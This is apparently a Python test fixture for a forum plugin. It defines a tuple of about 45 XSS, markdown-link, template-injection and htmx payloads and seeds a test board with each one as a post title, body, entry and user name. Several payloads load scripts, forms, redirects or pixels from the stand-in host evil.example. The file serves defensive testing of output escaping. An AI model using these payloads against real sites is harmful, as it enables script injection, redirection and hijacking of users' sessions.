"""What attackers type, and a board that is full of it."""

from dataclasses import dataclass

from plugin.forum import entries, members, publishing
from plugin.forum.publishing import Draft
from plugin.forum.visitor import Visitor
from plugin.forum.words import one_line, tidy
from store.database import transaction
from tests.plugin.forum.conftest import Scene

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><button>go",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea></title></bdi><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "{{ 7*7 }}{% print(config) %}${7*7}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    "[x](<https://ok.example\" onclick=\"alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "<https://ok.example/\"onclick=alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "＜script＞alert(1)＜/script＞",
    "x hx-get=/f/acme/sign-out hx-trigger=load",
    "<div hx-get='https://evil.example' hx-trigger=load>",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    author: Visitor
    posts: list[int]


def fill(scene: Scene) -> Hostile:
    """A board on which every payload is a title, a text, an entry of ours, a vote's reason and a name."""
    eve = scene.visitor()
    eve.sign_in("eve@example.com", PAYLOADS[2], newest_mail=scene.newest_mail)
    now, found = scene.clock.now(), []
    with transaction(scene.state.engine) as conn:
        member = members.by_email(conn, scene.workspace.id, "eve@example.com")
        assert member is not None
        for number, payload in enumerate(PAYLOADS):
            draft = Draft(one_line(f"t {payload}")[:120], tidy(payload), str(number))
            post_id = publishing.submit(conn, scene.workspace, member.id, draft, now=now)
            publishing.publish(conn, scene.workspace, post_id, by="test", now=now)
            entries.post_entry(
                conn, scene.workspace, post_id, "delivered", text=payload, html=payload, now=now
            )
            found.append(post_id)
    return Hostile(eve, found)
